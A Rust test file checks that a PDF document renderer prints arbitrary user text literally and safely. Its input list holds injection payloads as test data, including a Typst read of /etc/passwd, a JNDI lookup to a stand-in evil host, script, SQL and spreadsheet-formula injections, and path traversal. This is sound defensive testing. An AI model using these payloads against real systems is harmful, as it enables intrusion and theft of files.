//! Whatever people type is characters on the paper: never markup, never an empty box, never a fault.

use paper::{PaperError, Part};

use crate::samples::{paper, press};

/// Markup, code, quotes, other scripts, what cannot be seen, and what is too wide.
const TYPED: [&str; 46] = [
    "",
    " ",
    "#read(\"/etc/passwd\")",
    "#import \"@preview/cetz:0.4.0\"",
    "#let x = 1; #x",
    "#panic(\"no\")",
    "#while true {}",
    "#{for i in range(1000000) [x]}",
    "$ integral_0^1 x dif x $",
    "$",
    "*bold* _italic_ `raw`",
    "```rust\nfn main() {}\n```",
    "= Heading",
    "- list\n+ list\n/ term: list",
    "<label> @reference",
    "\\",
    "\\\\ \\u{1F600} \\#",
    "[content] ]] [[",
    "{code} }} {{",
    "\"quotes\" 'single' “curly” «guillemets»",
    "it's -- and --- and ...",
    "~nbsp~ -? -",
    "// comment",
    "/* comment",
    "*/ end",
    "https://evil.example/?a=1&b=2#c",
    "<script>alert(1)</script>",
    "'; drop table entry; --",
    "${jndi:ldap://evil.example/a}",
    "%s %n %x",
    "{{7*7}}",
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "line\nline\r\nline\rline",
    "tab\ttab",
    "nul\u{0}bell\u{7}esc\u{1b}[31m",
    "left\u{202e}right\u{202c}",
    "zero\u{200b}width\u{feff}joiner\u{200d}",
    "𠮷野家 㐂 䶮 龘 靐",
    "葛\u{e0100}城 辻\u{e0101}",
    "ｆｕｌｌ　ｗｉｄｔｈ",
    "Ω≈ç√∫˜µ≤≥÷",
    "1/2 ½ ⅓ ² ³",
    "null undefined NaN true",
    "-1 1e309 0x00",
    "ＣＯＮ　ＰＲＮ",
];

/// Characters that the Chinese typeface does not have.
const WITHOUT_GLYPH: [(&str, char); 6] = [
    ("😀 done", '😀'),
    ("👨\u{200d}👩\u{200d}👧", '👨'),
    ("مرحبا", 'م'),
    ("שלום", 'ש'),
    ("\u{e000} private", '\u{e000}'),
    ("name \u{10fffd}", '\u{10fffd}'),
];

#[test]
fn whatever_is_typed_gives_a_paper_or_the_name_of_the_missing_character() {
    let mut printed = 0;
    for typed in TYPED {
        match press().pdf(&everywhere(typed)) {
            Ok(pdf) => {
                assert!(pdf.starts_with(b"%PDF-"), "{typed:?}");
                printed += 1;
            }
            Err(PaperError::MissingGlyph(missing)) => {
                assert!(typed.contains(missing), "{typed:?} has no {missing:?}")
            }
            Err(other) => panic!("{typed:?}: {other}"),
        }
    }
    assert!(printed >= TYPED.len() - 2, "nearly all of it can be printed, not {printed}");
}

#[test]
fn a_character_without_a_glyph_is_named() {
    for (typed, missing) in WITHOUT_GLYPH {
        assert_eq!(press().pdf(&everywhere(typed)), Err(PaperError::MissingGlyph(missing)), "{typed:?}");
    }
    let error = PaperError::MissingGlyph('😀').to_string();
    assert_eq!(error, "no font has a glyph for 😀 (U+1F600)");
}

#[test]
fn rare_characters_of_names_are_printed() {
    for name in ["王𬭼", "李䶮", "𠮷田", "张翀𬍛", "赵㛃", "陈喆", "刘堃", "周嘦"] {
        assert!(press().pdf(&everywhere(name)).is_ok(), "{name}");
    }
}

#[test]
fn a_very_long_word_and_a_very_long_text_are_bounded() {
    assert!(press().pdf(&everywhere(&"w".repeat(2_500))).is_ok());
    assert!(press().pdf(&everywhere(&"长".repeat(2_000))).is_ok());
    let long = paper("超长", vec![Part::Text { text: "长".repeat(paper::TEXT_MAX + 1) }]);
    assert_eq!(press().pdf(&long), Err(PaperError::TooLong));
}

#[test]
fn the_same_paper_gives_the_same_bytes() {
    let paper = everywhere("许小店");
    assert_eq!(press().pdf(&paper), press().pdf(&paper));
}

/// A paper with the text in every place where a typed text can stand.
pub fn everywhere(typed: &str) -> paper::Paper {
    let it = || typed.to_owned();
    let mut paper = paper(
        "受理通知书",
        vec![
            Part::Lead { text: it() },
            Part::Heading { text: it() },
            Part::Text { text: it() },
            Part::Law { text: it() },
            Part::Pairs { rows: vec![[it(), it()]] },
            Part::List { rows: vec![it(), it()] },
            Part::table(&[1, 2], &[typed, "依据"], vec![vec![it(), it()], vec![it()]]),
            Part::Sign { rows: vec![[it(), it()]] },
        ],
    );
    paper.issuer = it();
    paper.number = it();
    paper.foot = it();
    paper.banner = it();
    if let Some(seal) = &mut paper.seal {
        seal.office = it();
    }
    paper
}
